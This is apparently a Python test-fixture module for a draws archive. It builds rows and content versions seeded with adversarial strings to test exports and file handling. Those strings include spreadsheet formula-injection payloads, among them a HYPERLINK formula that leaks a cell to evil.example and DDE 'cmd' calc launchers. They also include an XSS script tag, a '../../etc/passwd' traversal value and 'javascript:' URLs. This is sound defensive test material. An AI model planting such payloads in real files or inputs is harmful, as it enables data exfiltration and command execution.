"""Rows whose texts try to be formulas, markup, other types, other cells and other folders."""

from __future__ import annotations

from datetime import UTC, date, datetime, timedelta

from archive.snapshots import Content
from tests.archive.made import NOON, Row, at, band, content, draw, observation, report

TEXTS = (
    "=1+1",
    '=HYPERLINK("https://evil.example?x="&A1,"Click")',
    "+1 604 555 0199",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tCEC",
    "  =1+1",
    "\ufeff=1+1",
    "＝1+1",
    "CEC;=1+1",
    'CEC";=1+1;"',
    "CEC\n-1+1",
    "CEC\r\nSTEM",
    "",
    " ",
    "'",
    "''",
    "'=1+1",
    "''=1+1",
    "'CEC",
    "NA",
    "null",
    "NaN",
    "None",
    "true",
    "007",
    "1e5",
    "2024-04-11",
    "-5",
    "_x0041_",
    "_x005F_x0041_",
    "\x00\x01\x08\x1f",
    "\ufffe\uffff\u2028\x85",
    "<script>alert(1)</script>&amp;]]>",
    '"quoted", and "more"',
    "médecins 医師 🍁 e\u0301",
    "trailing  ",
    '["CEC"]',
    '{"a": 1}',
    "../../etc/passwd",
)

LONG = "=" + "x_x0041_\x08" * 4000
"""Longer than a cell of Excel."""

ODD_IDS = ("../../escape", "CON", "a/b\\c", "91A", "", "=1+1", "x" * 300, "293.json?q=<b>")


def numbered() -> list[Row]:
    """A draw a text, with the text wherever a page's words go."""
    return [
        draw(
            f"{400 + at}",
            category=text,
            category_name=text,
            category_version=text,
            instruction_url=f"javascript:{text}" if at % 2 else text,
            programs=[text, "CEC"] if at % 3 else [],
            sources=[text],
            draw_date=date(2024, 4, 11) + timedelta(days=at),
        )
        for at, text in enumerate(TEXTS)
    ]


def odd() -> list[Row]:
    """Ids that are no file names, and values at the edge of their types."""
    told = [draw("293", draw_id=key, draw_number=key, category=key or None) for key in ODD_IDS]
    edge = draw(
        "499",
        invitations=-(2**31),
        crs_cutoff=-1,
        draw_date=None,
        drawn_at=datetime(1899, 12, 30, 23, 59, 59, 999_999, UTC),
        tie_break_at=datetime(9999, 12, 31, 23, 59, 59, 999_999, UTC),
        pool_as_of=date(1900, 1, 1),
        first_seen_at=at("2024-04-11T12:00:00.000001"),
    )
    return [*told, edge]


def statement(source: str, value: str | None) -> Row:
    return {"source": source, "value": value, "url": "https://a.example/", "observation_id": "x"}


def issue(key: str, draw_id: str | None, text: str) -> Row:
    statements = [statement(text, None), statement("cicnews", text)]
    return {"issue_id": key, "kind": "disagreement", "severity": "warning", "draw_id": draw_id, "field": None, "detail": text,
            "statements": statements if draw_id else [], "opened_at": NOON, "closed_at": None}  # fmt: skip


def occupation(text: str, version: str | None, teer: int | None) -> Row:
    return {"category": "healthcare", "category_version": version, "noc_code": "01234", "teer": teer, "title": text,
            "source": "cicnews"}  # fmt: skip


def first() -> Content:
    return content(draw("292"), report(), draw("293", category_name="STEM occupations (2024-1)", invitations=None))


def second() -> Content:
    """A second version: all the texts, a report withdrawn, a renamed and a corrected draw."""
    later = NOON + timedelta(hours=1)
    told = [
        observation(
            f"{400 + at}",
            later + timedelta(microseconds=at),
            category_text=text,
            evidence=text,
            pool=[{"crs_low": 0, "crs_high": 1200, "candidates": None if at % 2 else -5, "level": text}]
            if at % 3
            else [],
            programs=None if at % 2 else [],
            inferred=[text],
            pool_text=LONG if at == 1 else None,
        )
        for at, text in enumerate(TEXTS)
    ]
    return content(
        draw("292"),
        draw("293"),
        *numbered(),
        *odd(),
        observations=told,
        pool=[band("292", 451, 500, -5), band("292", 0, 1200, None, "total")],
        issues=[issue(f"i{at}", "292" if at % 2 else None, text) for at, text in enumerate(TEXTS)],
        occupations=[
            occupation(text, text if at % 2 else None, at % 6 if at % 3 else None) for at, text in enumerate(TEXTS)
        ],
    )
